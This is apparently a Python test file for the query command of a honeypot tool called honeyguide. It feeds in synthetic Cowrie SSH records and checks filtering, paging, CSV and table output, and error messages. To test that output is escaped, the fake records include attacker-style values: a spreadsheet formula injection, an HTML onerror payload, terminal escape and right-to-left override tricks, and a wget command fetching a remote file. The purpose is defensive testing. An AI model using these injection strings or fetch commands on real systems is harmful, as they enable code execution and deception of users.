"""Asking a state by filter, by the real program: test_query.py BINARY. What `honeyguide query` prints equals what a recount of the records
that were pushed says; pages join without seam; what attackers wrote steers neither terminals nor spreadsheets; a fault has its place."""
import csv
import io
import ipaddress
import json
import os
import pathlib
import pty
import random
import subprocess
import sys
import unittest

sys.path.insert(0, str(pathlib.Path(__file__).resolve().parents[1] / "support"))
import live  # noqa: E402
from live import BINARY, SEED, say  # noqa: E402

USERS = ("root", "admin", "a b", "=cmd|' /C calc'!A0", "<img src=x onerror=1>", "\x1b]0;owned\x07x", "two\nrows\there", "\u202etxt.exe")
PORTS = (22, 23, 2222)
EXTRA = ["anomaly_score", "severity", "by", "alert_id"]


def at(second):
    return f"2026-03-06T{8 + second // 3600:02}:{second // 60 % 60:02}:{second % 60:02}.000000Z"


def records(rng, n):
    """Cowrie's, in the order of their times: log-ins that failed, commands, and connections."""
    for i in range(n):
        record = {"src_ip": f"203.0.113.{rng.randrange(16)}" if rng.random() < 0.8 else f"2001:db8::{rng.randrange(1, 9):x}", "session": f"{i:08x}",
                  "timestamp": at(i // 4), "dst_ip": "198.51.100.250", "dst_port": rng.choice(PORTS), "protocol": "ssh"}
        kind = rng.choice(("login.failed", "command.input", "session.connect"))
        if kind == "login.failed":
            record.update(username=rng.choice(USERS), password=f"p{rng.randrange(4)}")
        elif kind == "command.input":
            record["input"] = rng.choice(("uname -a", "cat /proc/cpuinfo", "wget http://198.51.100.9/x"))
        yield {"eventid": "cowrie." + kind, **record}


def query(state, *arguments, fails=0):
    done = subprocess.run([BINARY, "query", "--state", str(state), *map(str, arguments)], capture_output=True, timeout=120)
    assert done.returncode == fails, (arguments, done.returncode, done.stderr)
    return (done.stdout if fails == 0 else done.stderr).decode()


def lines(state, *arguments):
    return [json.loads(line) for line in query(state, *arguments, "--format", "jsonl").splitlines()]


def within(network):
    return lambda r: ipaddress.ip_address(r["src_ip"]) in ipaddress.ip_network(network)


def kind(name):
    return lambda r: r["eventid"] == "cowrie." + name


CASES = {
    "": lambda r: True,
    "port:22": lambda r: r["dst_port"] == 22,
    "port:22,2222": lambda r: r["dst_port"] in (22, 2222),
    "port>22 -port:2222": lambda r: r["dst_port"] == 23,
    "src:203.0.113.0/28": within("203.0.113.0/28"),
    "src:203.0.113.8/29": within("203.0.113.8/29"),
    "2001:db8::/32": within("2001:db8::/32"),
    "203.0.113.7": within("203.0.113.7/32"),
    "dst:198.51.100.250 kind:login.failed": kind("login.failed"),
    "user:root": lambda r: r.get("username") == "root",
    "USER:ROOT or user:\"a b\"": lambda r: r.get("username") in ("root", "a b"),
    "user:*": lambda r: "username" in r,
    "-user:*": lambda r: "username" not in r,
    "-user:root": lambda r: r.get("username") != "root",
    "user:\"<img*\"": lambda r: r.get("username", "").startswith("<img"),
    "password:p1,p3 port:23": lambda r: r.get("password") in ("p1", "p3") and r["dst_port"] == 23,
    "command:*wget*": lambda r: "wget" in r.get("input", ""),
    "type:brute_force": kind("login.failed"),
    "type:command_execution (port:22 or port:23)": lambda r: kind("command.input")(r) and r["dst_port"] in (22, 23),
    "cpuinfo": lambda r: "cpuinfo" in json.dumps(r),
    "\"UNAME -A\" -port:22": lambda r: "uname -a" in r.get("input", "") and r["dst_port"] != 22,
    "session:\"0000002a\"": lambda r: r["session"] == "0000002a",
    "bytes_sent:0": lambda r: False,  # missing is not zero
    "-bytes_sent:0": lambda r: True,
    "dataset:suricata": lambda r: False,
    f"time:{at(60)[:16]}": lambda r: r["timestamp"][:16] == at(60)[:16],
    f"time<{at(120)[:19]}": lambda r: r["timestamp"] < at(120),
    "time:-2m": None,  # filled in below: of the newest record
    "source:made-up port:22": lambda r: r["dst_port"] == 22,
    "not (kind:session.connect or user:root)": lambda r: not kind("session.connect")(r) and r.get("username") != "root",
}


class Query(live.Case):
    ROWS = 5000
    RECORDS = 3000

    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        cls.sent = list(records(random.Random(SEED), cls.RECORDS))
        cls.state = cls.dir / "state"
        server = live.Server([BINARY, "serve", "--state", str(cls.state), "--listen", "127.0.0.1:0", *cls.with_model])
        try:
            for start in range(0, cls.RECORDS, 500):
                body = "".join(json.dumps(r) + "\n" for r in cls.sent[start:start + 500])
                assert server.push(body, source="made-up").status == 200
            live.until(lambda: server.get("health").json["sequence"] >= cls.RECORDS, what="taking in")
        finally:
            server.stop()
        last = cls.sent[-1]["timestamp"]
        cls.two_minutes = [r for r in cls.sent if r["timestamp"] >= at((cls.RECORDS - 1) // 4 - 120)]
        assert last == at((cls.RECORDS - 1) // 4)

    def wanted(self, text):
        found = CASES[text]
        return self.two_minutes if found is None else [r for r in self.sent if found(r)]

    def test_every_filter_finds_what_a_recount_finds(self):
        for text in CASES:
            with self.subTest(filter=text):
                wanted = self.wanted(text)
                found = lines(self.state, text)
                self.assertEqual([e["attributes"]["session"] for e in found], [r["session"] for r in reversed(wanted)])
                self.assertEqual(int(query(self.state, text, "--count")), len(wanted))

    def test_order_limit_and_range(self):
        sessions = [r["session"] for r in self.sent]
        self.assertEqual([e["attributes"]["session"] for e in lines(self.state, "--order", "oldest")], sessions)  # many pages, no seam
        self.assertEqual([e["attributes"]["session"] for e in lines(self.state, "--limit", 700)], sessions[::-1][:700])
        minute = [r["session"] for r in self.sent if at(120) <= r["timestamp"] < at(240)]
        self.assertEqual([e["attributes"]["session"] for e in lines(self.state, "--from", at(120), "--to", at(240), "--order", "oldest")], minute)
        self.assertEqual([e["attributes"]["session"] for e in lines(self.state, "--from", at(120), "--window", "2m", "--order", "oldest")], minute)
        self.assertEqual(lines(self.state, "--from", "2026-03-07"), [])
        self.assertEqual(int(query(self.state, "--to", "2026-03-07", "--count")), self.RECORDS)

    def test_csv_is_that_of_normalize_with_the_score(self):
        log = self.path("cowrie.json")
        log.write_text("".join(json.dumps(r) + "\n" for r in self.sent), encoding="utf-8")
        plain = list(csv.DictReader(io.StringIO(live.run("normalize", "--output", "csv", log) + "\n")))
        rows = list(csv.DictReader(io.StringIO(query(self.state, "--format", "csv", "--order", "oldest"))))
        self.assertEqual(list(rows[0]), list(plain[0]) + EXTRA)
        for row, wanted in zip(rows, plain, strict=True):
            for name in wanted:
                if name != "event_id":  # a push's identity is its source's
                    self.assertEqual(row[name], wanted[name])
            self.assertTrue(row["anomaly_score"] == "" or 0 <= float(row["anomaly_score"]) <= 1)
            self.assertIn(row["severity"], ("none", "low", "medium", "high"))
            self.assertEqual(row["by"] in ("label", "score", "both"), len(row["alert_id"]) == 32)
        objects = lines(self.state, "--order", "oldest")
        self.assertEqual([(o["event_id"], o["alert_id"] or "", o["severity"]) for o in objects], [(r["event_id"], r["alert_id"], r["severity"]) for r in rows])
        self.assertEqual(list(objects[0])[-4:], EXTRA)
        named = objects[next(i for i, o in enumerate(objects) if o["alert_id"])]
        self.assertIn(named["event_id"], [e["event_id"] for e in lines(self.state, f"alert:{named['alert_id']}")])
        self.assertEqual([e["event_id"] for e in lines(self.state, f"event:{named['event_id']}")], [named["event_id"]])

    def test_attackers_text_is_guarded(self):
        for text in ("user:*", "user:\"two*\"", "user:\"*owned*\""):
            table = query(self.state, text, "--limit", 1000)
            self.assertEqual(len(table.splitlines()), 1 + min(1000, len(lines(self.state, text))))  # no value makes a row
            self.assertFalse(any((ord(c) < 32 and c != "\n") or c == "\u202e" for c in table))
        self.assertIn("\\u001b]0;owned", table)
        for row in csv.reader(io.StringIO(query(self.state, "user:*", "--format", "csv"))):
            self.assertFalse([cell for cell in row if cell[:1] in ("=", "+", "@", "\t")])
        master, slave = pty.openpty()
        process = subprocess.Popen([BINARY, "query", "user:*", "--state", str(self.state), "--format", "csv"], stdout=slave)
        os.close(slave)
        shown = b""
        try:
            while piece := os.read(master, 65536):
                shown += piece
        except OSError:  # the other end was closed
            pass
        os.close(master)
        self.assertEqual(process.wait(20), 0)
        self.assertGreater(len(shown), 1000)
        self.assertNotIn(b"\x1b", shown)
        self.assertNotIn("\u202e".encode(), shown)

    def test_table(self):
        done = subprocess.run([BINARY, "query", "port:22", "--state", str(self.state)], capture_output=True, timeout=60)
        table = done.stdout.decode().splitlines()
        self.assertEqual(len(table), 101)
        self.assertEqual(table[0].split(), "time source destination app severity score type what".split())
        newest = self.wanted("port:22")[-1]
        self.assertEqual(table[1].split()[:4], [newest["timestamp"][:19] + "Z", newest["src_ip"], "198.51.100.250:22", "SSH"])
        self.assertIn(f"100 of {len(self.wanted('port:22'))} events", done.stderr.decode())

    def test_faults_have_their_place(self):
        errors = query(self.state, "port:22 usr:root", fails=2).splitlines()
        self.assertEqual(errors[0], "honeyguide query: port:22 usr:root")
        self.assertEqual(errors[1], " " * errors[0].index("usr") + "^^^")
        self.assertIn("user?", errors[2])
        errors = query(self.state, "\u00e9\x1b[ port:x", fails=2).splitlines()
        self.assertEqual(errors[1].index("^"), errors[0].index(":x") + 1)
        self.assertNotIn("\x1b", errors[0])
        errors = query(self.state, "(port:22", fails=2).splitlines()
        self.assertEqual(errors[1], " " * len(errors[0]) + "^")

    def test_wrong_use(self):
        for options in (("--format", "xml"), ("--order", "up"), ("--limit", "0"), ("a", "b"), ("-a", "b"), ("--window", "soon"), ("--from", "soon"),
                        ("--from", "2026-03-06", "--to", "2026-03-05"), ("--from", "2026-03-06", "--to", "2026-03-07", "--window", "1h")):
            self.assertTrue(query(self.state, *options, fails=2).startswith("honeyguide query: "), options)
        self.assertEqual(subprocess.run([BINARY, "query", "x"], capture_output=True, timeout=20).returncode, 2)
        self.assertIn("absent", query(self.path("absent"), fails=1))
        self.assertIn("usage: honeyguide query", live.run("query", "--help"))

    def test_while_a_server_runs(self):
        server = self.serve(self.path("state"), *self.with_model)
        for i in range(4):
            self.assertEqual(server.push(json.dumps(self.sent[i]) + "\n", source="made-up").status, 200)
            live.until(lambda: server.get("health").json["sequence"] >= i + 1)
            self.assertEqual(int(query(self.path("state"), "--count")), i + 1)


if __name__ == "__main__":
    say(f"seed {SEED}")
    unittest.main()
